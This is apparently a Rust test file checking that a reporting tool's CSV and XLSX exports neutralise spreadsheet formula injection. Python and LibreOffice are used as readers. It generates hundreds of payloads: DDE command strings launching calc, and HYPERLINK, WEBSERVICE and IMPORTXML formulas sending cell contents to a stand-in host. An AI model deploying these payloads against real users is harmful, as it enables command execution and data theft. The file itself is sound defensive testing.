//! What leaves for a spreadsheet: no cell runs there, and every cell comes back as it was written. T35.

use crate::support::rely;
use closeloop::domain::dataset::TABLES;
use closeloop::report::cell::guarded;
use closeloop::report::dataset::CsvTable;
use closeloop::report::paper::numbers::Number;
use closeloop::report::sheet;
use std::path::Path;
use std::process::Command;

/// Five hundred texts that mean harm to whoever opens them in a spreadsheet, or that break a file of commas.
fn attacks() -> Vec<String> {
    let starts =
        ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u{feff}=", "\0=", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}", "|", "%"];
    let bodies = [
        "1+1",
        "HYPERLINK(\"http://example.test?x=\"&A1,\"open\")",
        "cmd|' /C calc'!A0",
        "WEBSERVICE(\"http://example.test\")",
        "SUM(A1:A9)*2",
        "IMPORTXML(CONCAT(\"http://example.test?v=\",A2),\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "A1",
        "2;3",
        "\"\"",
        "1,2\",=3",
        "\"\r\n=4",
        "EXEC(\"x\")",
        "'=1",
        "MSEXCEL|'\\..\\..\\x.exe'!''",
        "RTD(\"a\";\"b\")",
        "-1",
        "0x10",
        "1e5+",
        "\u{202e}1+1",
    ];
    let mut all: Vec<String> = starts.iter().flat_map(|start| bodies.iter().map(move |body| format!("{start}{body}"))).collect();
    all.extend(bodies.iter().map(ToString::to_string));
    all.extend((0..160).map(|n| {
        let quote = ["\"", "'", "\"\"", ";", "\r\n", ",", "\u{2028}", "\\"][n % 8];
        format!("{}{quote}{}{n}{quote}", starts[n % starts.len()], bodies[n % bodies.len()])
    }));
    all
}

/// Reads a file of commas as Python does, and says what it read as JSON.
fn read_by_python(path: &Path) -> Option<Vec<Vec<String>>> {
    let script = "import csv, json, sys\nprint(json.dumps(list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8'), strict=True))))";
    let answer = Command::new("python3").args(["-c", script]).arg(path).output();
    let wanted = std::env::var_os("CLOSELOOP_ORACLE").is_some_and(|value| value == "required");
    match answer {
        Ok(answer) => {
            assert!(answer.status.success(), "{}", String::from_utf8_lossy(&answer.stderr));
            Some(serde_json::from_slice(&answer.stdout).unwrap())
        }
        Err(_) => {
            assert!(!wanted, "CLOSELOOP_ORACLE=required, but there is no python3");
            None
        }
    }
}

/// How many cells a spreadsheet takes for formulas, asked of LibreOffice where its spreadsheet is installed.
fn formulas_seen_by_libreoffice(folder: &Path, name: &str) -> Option<usize> {
    let home = format!("-env:UserInstallation=file://{}/home", folder.display());
    let arguments = [home.as_str(), "--headless", "--convert-to", "fods", "--outdir"];
    let done = Command::new("soffice").args(arguments).arg(folder).arg(folder.join(name)).output().ok()?;
    let stem = name.split('.').next().unwrap();
    // Without its spreadsheet it opens nothing, and says that it went well.
    let sheet = std::fs::read_to_string(folder.join(format!("{stem}.fods"))).ok().filter(|_| done.status.success())?;
    assert!(sheet.contains("table:table-cell"), "it was read as a sheet");
    Some(sheet.matches("table:formula").count())
}

#[test]
fn t35_no_cell_runs_in_a_spreadsheet_and_each_comes_back_as_it_was_written() {
    let attacks = attacks();
    assert!(attacks.len() >= 500, "{}", attacks.len());
    let runs = |cell: &str| {
        let first = cell.trim_start_matches(['\u{feff}', ' ', '\t', '\r', '\n', '\0']).chars().next();
        let number = cell.parse::<f64>().is_ok();
        matches!(first, Some('=' | '+' | '-' | '@' | '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}' | '|' | '%')) && !number
    };
    assert!(attacks.iter().filter(|text| runs(text)).count() > 300, "most of them would run as they are");
    let safe: Vec<String> = attacks.iter().map(|text| guarded(text)).collect();
    assert_eq!(safe.iter().find(|cell| runs(cell)), None);
    let folder = tempfile::tempdir().unwrap();
    // The data set: as many attacks in a row as a table has columns.
    let table = &TABLES[0];
    let width = table.columns.len();
    let mut file = CsvTable::new(table).unwrap();
    for row in attacks.chunks(width) {
        let mut cells: Vec<Option<String>> = row.iter().cloned().map(Some).collect();
        cells.resize(width, None);
        file.row(&cells).unwrap();
    }
    std::fs::write(folder.path().join("data.csv"), file.finish().unwrap()).unwrap();
    // The figures of a report, as commas and as a workbook.
    let numbers: Vec<Number> = attacks
        .chunks(3)
        .map(|texts| {
            let at = |place: usize| texts.get(place).cloned().unwrap_or_default();
            Number { table: "Figures", row: at(0), column: at(1), value: at(2) }
        })
        .collect();
    std::fs::write(folder.path().join("figures.csv"), sheet::csv(&numbers, &[]).unwrap()).unwrap();
    std::fs::write(
        folder.path().join("book.xlsx"),
        sheet::xlsx(&attacks[0], &[(attacks[1].clone(), attacks[2].clone())], &numbers, &[]).unwrap(),
    )
    .unwrap();
    let mut differences = 0;
    if let Some(rows) = read_by_python(&folder.path().join("data.csv")) {
        let head: Vec<&str> = table.columns.iter().map(|column| column.name).collect();
        assert_eq!(rows[0], head, "no column more and none less");
        let cells: Vec<&String> = rows[1..].iter().flatten().collect();
        differences += cells.iter().zip(&safe).filter(|(read, written)| **read != *written).count();
        assert!(cells.len() >= safe.len() && rows.iter().all(|row| row.len() == width), "no cell runs over into another");
    }
    if let Some(rows) = read_by_python(&folder.path().join("figures.csv")) {
        let cells: Vec<&String> = rows[1..].iter().flat_map(|row| &row[1..]).collect();
        differences += cells.iter().zip(&safe).filter(|(read, written)| **read != *written).count();
    }
    let asked = if rely::full() { ["data.csv", "figures.csv", "book.xlsx"].as_slice() } else { &[] };
    let opened: Vec<usize> = asked.iter().filter_map(|name| formulas_seen_by_libreoffice(folder.path(), name)).collect();
    let formulas: usize = opened.iter().sum();
    let by = if opened.len() == 3 { "Python and LibreOffice" } else { "Python" };
    rely::line(
        &serde_json::json!({"test": "T35", "cells": attacks.len(), "differences": differences, "formulas": formulas, "opened_by": by}),
    );
    assert_eq!((differences, formulas), (0, 0));
}
